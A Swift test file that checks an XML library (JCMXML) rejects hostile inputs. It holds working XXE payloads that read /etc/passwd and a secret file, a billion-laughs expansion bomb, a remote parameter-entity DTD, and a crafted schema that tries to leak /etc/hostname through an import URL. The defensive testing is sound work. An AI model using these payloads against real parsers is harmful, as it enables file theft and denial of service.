import Foundation
@testable import JCMXML
import Testing

struct XMLSecurityTests {
    private static let marker = "JCM-SECRET-MARKER-7c2f"

    private static func documentReferencing(_ url: URL) -> String {
        """
        <?xml version="1.0"?>
        <!DOCTYPE report [<!ENTITY e SYSTEM "\(url.absoluteString)">]>
        <report><company>&e;</company><city>x</city><emissions>1</emissions></report>
        """
    }

    @Test func aDoctypeIsFoundAtItsLineWhateverTheLineEndsAndTheTextAround() {
        #expect(XMLDocumentReader.doctypeLine("<?xml version=\"1.0\"?>\r\n<r/>\r\n\r\n<!DOCTYPE r>") == 4)
        #expect(XMLDocumentReader.doctypeLine("<!DOCTYPE r><r/>") == 1)
        #expect(XMLDocumentReader.doctypeLine("<r>Hải Phòng 北九州</r>\n<!DOCTYPE") == 2)
        #expect(XMLDocumentReader.doctypeLine("<r><!DOCTYP</r>") == nil)
        #expect(XMLDocumentReader.doctypeLine("<!doctype r>") == nil, "libxml2 itself refuses the lower-case form")
        #expect(XMLDocumentReader.doctypeLine("") == nil)
    }

    @Test func externalEntityIsNotExpanded() throws {
        let directory = try Fixtures.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let secret = directory.appendingPathComponent("secret.txt")
        try Self.marker.write(to: secret, atomically: true, encoding: .utf8)
        let xml = Self.documentReferencing(secret)

        let failure = try #require(throws: XMLValidationFailure.self) { try XMLFormatter.indent(xml, documentName: "xxe.xml") }
        #expect(failure.diagnostics.map(\.code) == [.X1])
        #expect(failure.diagnostics.first?.location?.line == 2, "reported on the DOCTYPE's line")

        let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "xxe.xml")
        #expect(diagnostics.map(\.code) == [.X1])
        #expect(diagnostics.first?.message.contains("declares a DTD") == true)
        #expect(!diagnostics.contains { $0.message.contains(Self.marker) })
    }

    @Test func etcPasswdEntityIsNotExpanded() throws {
        let xml = Self.documentReferencing(URL(fileURLWithPath: "/etc/passwd"))
        #expect(throws: XMLValidationFailure.self) { try XMLFormatter.indent(xml, documentName: "passwd.xml") }
        let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "passwd.xml")
        #expect(!diagnostics.contains { $0.message.contains("root:") })
    }

    @Test func entityExpansionBombIsRejected() throws {
        var declarations = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            let references = String(repeating: "&lol\(level - 1);", count: 10)
            declarations += "\n<!ENTITY lol\(level) \"\(references)\">"
        }
        let xml = "<!DOCTYPE report [\n\(declarations)\n]>\n"
            + "<report><company>&lol9;</company><city>x</city><emissions>1</emissions></report>"
        let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "bomb.xml")
        #expect(!diagnostics.isEmpty)
        #expect(diagnostics.allSatisfy { $0.code == .X1 })
    }

    /// A parameter entity pulled from outside used to leave the document "valid".
    @Test func parameterEntityDocumentIsRejectedNotValid() throws {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE report [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>
            <report><company>x</company><city>x</city><emissions>1</emissions></report>
            """
        let diagnostics = try Fixtures.reportSchema().validate(xml: xml, documentName: "pe.xml")
        #expect(diagnostics.map(\.code) == [.X1])
    }

    /// A schema cannot read a local file into a request: its DTD is refused, and nothing but
    /// local files is ever loaded, whatever its includes say.
    @Test func aCraftedSchemaReachesNeitherTheNetworkNorLocalFilesThroughEntities() throws {
        let withEntity = """
            <?xml version="1.0"?>
            <!DOCTYPE xs:schema [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:import namespace="urn:x" schemaLocation="http://127.0.0.1:9/?&secret;"/>
              <xs:element name="report" type="xs:string"/>
            </xs:schema>
            """
        let failure = try #require(throws: XMLValidationFailure.self) { try XMLSchema(xsd: withEntity, name: "evil.xsd") }
        #expect(!failure.diagnostics.isEmpty && failure.diagnostics.allSatisfy { $0.code == .X3 })
        let dtdOnly = withEntity.replacingOccurrences(of: "?&secret;", with: "")
        let refused = try #require(throws: XMLValidationFailure.self) { try XMLSchema(xsd: dtdOnly, name: "evil.xsd") }
        #expect(refused.diagnostics.first?.message.contains("declares a DTD") == true)

        let importing = """
            <?xml version="1.0"?>
            <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
              <xs:import namespace="urn:x" schemaLocation="http://127.0.0.1:9/types.xsd"/>
              <xs:element name="report" type="xs:string"/>
            </xs:schema>
            """
        // The import is not fetched: the schema fails to compile, saying why in jcm's words.
        let refusedImport = try #require(throws: XMLValidationFailure.self) { try XMLSchema(xsd: importing, name: "import.xsd") }
        #expect(refusedImport.diagnostics.first?.message.contains("which jcm does not fetch: it reads local files only") == true)
    }

    @Test func libxmlAdviceToParseUnsafelyIsReplacedByOurOwnWords() {
        let replaced = LibXMLError.ownWords("Please substitute entities before validation")
        #expect(!replaced.contains("substitute"))
        #expect(LibXMLError.ownWords("Excessive depth in document: 256 use XML_PARSE_HUGE option").contains("deeper, longer or larger"))
    }
}
